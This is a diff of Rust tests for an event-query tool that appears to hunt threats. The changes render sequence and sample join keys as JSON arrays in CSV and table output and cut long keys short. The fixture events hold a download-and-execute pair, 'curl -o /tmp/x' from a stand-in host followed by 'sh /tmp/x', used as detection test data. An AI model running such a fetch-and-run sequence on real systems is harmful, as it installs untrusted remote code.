@@ -54,12 +54,13 @@ fn sequences_and_samples_are_written_as_csv_one_row_per_event() {
         csv,
         format!(
             "sequence,join_keys,{header}\n\
-             1,h1,2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
-             1,h1,2026-01-01T00:00:04.000Z,process,alpha,root,sh,sh /tmp/x,events.ndjson:4\n"
+             1,\"[\"\"h1\"\"]\",2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,\"[\"\"h1\"\"]\",2026-01-01T00:00:04.000Z,process,alpha,root,sh,sh /tmp/x,events.ndjson:4\n"
         )
     );
 
-    // Two join keys share a cell; a missing event is a row of its own.
+    // Two join keys share a cell, as a JSON array; a missing event is a
+    // row of its own.
     let csv = query(
         d,
         "sequence by host.id, user.name with maxspan=1m \
@@ -70,9 +71,9 @@ fn sequences_and_samples_are_written_as_csv_one_row_per_event() {
         csv,
         format!(
             "sequence,join_keys,{header}\n\
-             1,\"h1, root\",2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
-             1,\"h1, root\",,,,,,,(missing event)\n\
-             1,\"h1, root\",2026-01-01T00:00:04.000Z,process,alpha,root,sh,sh /tmp/x,events.ndjson:4\n"
+             1,\"[\"\"h1\"\",\"\"root\"\"]\",2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,\"[\"\"h1\"\",\"\"root\"\"]\",,,,,,,(missing event)\n\
+             1,\"[\"\"h1\"\",\"\"root\"\"]\",2026-01-01T00:00:04.000Z,process,alpha,root,sh,sh /tmp/x,events.ndjson:4\n"
         )
     );
 
@@ -85,10 +86,10 @@ fn sequences_and_samples_are_written_as_csv_one_row_per_event() {
         csv,
         format!(
             "sample,join_keys,{header}\n\
-             1,h1,2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
-             1,h1,2026-01-01T00:00:03.000Z,network,alpha,root,curl,,events.ndjson:3\n\
-             2,h2,2026-01-01T00:00:02.000Z,process,beta,bob,ls,ls -l,events.ndjson:2\n\
-             2,h2,2026-01-01T00:00:05.000Z,network,beta,bob,ssh,,events.ndjson:5\n"
+             1,\"[\"\"h1\"\"]\",2026-01-01T00:00:01.000Z,process,alpha,root,curl,curl -o /tmp/x http://e.test/x,events.ndjson:1\n\
+             1,\"[\"\"h1\"\"]\",2026-01-01T00:00:03.000Z,network,alpha,root,curl,,events.ndjson:3\n\
+             2,\"[\"\"h2\"\"]\",2026-01-01T00:00:02.000Z,process,beta,bob,ls,ls -l,events.ndjson:2\n\
+             2,\"[\"\"h2\"\"]\",2026-01-01T00:00:05.000Z,network,beta,bob,ssh,,events.ndjson:5\n"
         )
     );
 }
@@ -106,10 +107,10 @@ fn sequences_and_samples_are_written_as_a_table_one_row_per_event() {
     assert_eq!(
         table,
         "SAMPLE  JOIN KEYS  TIME                      CATEGORY   HOST             USER       COMMAND\n\
-         1       h1         2026-01-01T00:00:01.000Z  process    alpha            root       curl -o /tmp/x http://e.test/x\n\
-         1       h1         2026-01-01T00:00:03.000Z  network    alpha            root       curl\n\
-         2       h2         2026-01-01T00:00:02.000Z  process    beta             bob        ls -l\n\
-         2       h2         2026-01-01T00:00:05.000Z  network    beta             bob        ssh\n"
+         1       [\"h1\"]     2026-01-01T00:00:01.000Z  process    alpha            root       curl -o /tmp/x http://e.test/x\n\
+         1       [\"h1\"]     2026-01-01T00:00:03.000Z  network    alpha            root       curl\n\
+         2       [\"h2\"]     2026-01-01T00:00:02.000Z  process    beta             bob        ls -l\n\
+         2       [\"h2\"]     2026-01-01T00:00:05.000Z  network    beta             bob        ssh\n"
     );
     let table = query(
         d,
@@ -119,8 +120,8 @@ fn sequences_and_samples_are_written_as_a_table_one_row_per_event() {
     assert_eq!(
         table,
         "SEQUENCE  JOIN KEYS  TIME                      CATEGORY   HOST             USER       COMMAND\n\
-         1         h1         2026-01-01T00:00:01.000Z  process    alpha            root       curl -o /tmp/x http://e.test/x\n\
-         1         h1         2026-01-01T00:00:04.000Z  process    alpha            root       sh /tmp/x\n"
+         1         [\"h1\"]     2026-01-01T00:00:01.000Z  process    alpha            root       curl -o /tmp/x http://e.test/x\n\
+         1         [\"h1\"]     2026-01-01T00:00:04.000Z  process    alpha            root       sh /tmp/x\n"
     );
     let table = query(
         d,
@@ -376,4 +377,45 @@ fn events_whose_timestamp_cannot_be_used_are_named_by_file_and_line() {
         "{}",
         stderr(&out)
     );
+}
+
+/// Join keys were joined with `, `: the keys `a,b` and `a,b` read as the
+/// keys `a` and `b, a,b`, and a null key as the text `null`. A long key
+/// widened the table's join-key column until no event column was left.
+#[test]
+fn join_keys_read_back_unambiguously_and_a_long_one_is_cut_in_the_table() {
+    let dir = scratch();
+    let d = dir.path();
+    let long = "x".repeat(60);
+    let events = format!(
+        "{{\"@timestamp\":\"2026-01-01T00:00:01Z\",\"event\":{{\"category\":\"process\"}},\"host\":{{\"name\":\"a,b\"}},\"user\":{{\"name\":\"a,b\"}},\"process\":{{\"name\":\"p1\"}}}}\n\
+         {{\"@timestamp\":\"2026-01-01T00:00:02Z\",\"event\":{{\"category\":\"process\"}},\"host\":{{\"name\":\"a,b\"}},\"user\":{{\"name\":\"a,b\"}},\"process\":{{\"name\":\"p2\"}}}}\n\
+         {{\"@timestamp\":\"2026-01-01T00:00:03Z\",\"event\":{{\"category\":\"process\"}},\"host\":{{\"name\":\"{long}\"}},\"process\":{{\"name\":\"p3\"}}}}\n\
+         {{\"@timestamp\":\"2026-01-01T00:00:04Z\",\"event\":{{\"category\":\"process\"}},\"host\":{{\"name\":\"{long}\"}},\"process\":{{\"name\":\"p4\"}}}}\n"
+    );
+    std::fs::write(d.join("events.ndjson"), events).unwrap();
+    let q = "sequence by host.name, ?user.name [process where true] [process where true]";
+    let csv = query(d, q, &["--format", "csv"]);
+    let keys: Vec<&str> = csv
+        .lines()
+        .skip(1)
+        .map(|l| l.split(",20").next().unwrap_or(""))
+        .collect();
+    assert_eq!(
+        keys,
+        [
+            "1,\"[\"\"a,b\"\",\"\"a,b\"\"]\"",
+            "1,\"[\"\"a,b\"\",\"\"a,b\"\"]\"",
+            format!("2,\"[\"\"{long}\"\",null]\"").as_str(),
+            format!("2,\"[\"\"{long}\"\",null]\"").as_str(),
+        ]
+    );
+    let table = query(d, q, &["--format", "table"]);
+    let rows: Vec<&str> = table.lines().collect();
+    // The key column stops at 32 characters; the event columns follow.
+    let lead = format!(
+        "2         [\"{}…  2026-01-01T00:00:03.000Z  process    xxx",
+        "x".repeat(29)
+    );
+    assert!(rows[3].starts_with(&lead), "{table}");
 }
